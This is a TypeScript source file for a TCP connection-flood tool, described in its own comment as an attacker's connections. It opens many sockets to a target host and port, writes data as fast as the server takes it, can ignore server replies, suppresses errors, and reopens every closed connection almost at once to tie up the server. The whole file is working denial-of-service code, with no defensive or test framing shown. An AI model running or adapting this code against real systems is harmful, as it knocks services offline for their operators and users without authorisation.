/*
 * The connections of an attacker. Each is reopened when it ends, and sends as fast as the server
 * reads.
 */
import { connect, Socket } from 'node:net';

export interface Target {
  readonly host: string;
  readonly port: number;
}

/** The next bytes that a connection writes; `undefined` if it has no more. */
export type Feed = () => Buffer | string | undefined;

export interface Flood {
  readonly target: Target;
  readonly connections: number;
  /** Called for each new connection. */
  readonly feed: () => Feed;
  /** Never reads what the server sends. */
  readonly unread?: boolean;
  /** The pause before a connection that has ended is reopened. */
  readonly pauseMs?: number;
}

/** Keeps the connections of a flood open until the process ends. */
export function flood(attack: Flood): void {
  for (let i = 0; i < attack.connections; i++) keepUp(attack);
}

function keepUp(attack: Flood): void {
  const socket = connect(attack.target);
  const next = attack.feed();
  if (!attack.unread) socket.resume();
  socket.on('connect', () => pump(socket, next));
  socket.on('drain', () => pump(socket, next));
  socket.on('error', () => undefined);
  // The server has closed its side, so the connection is of no more use.
  socket.on('end', () => socket.destroy());
  socket.on('close', () => setTimeout(() => keepUp(attack), attack.pauseMs ?? 1));
}

function pump(socket: Socket, next: Feed): void {
  for (;;) {
    const bytes = next();
    if (bytes === undefined || socket.destroyed || !socket.write(bytes)) return;
  }
}
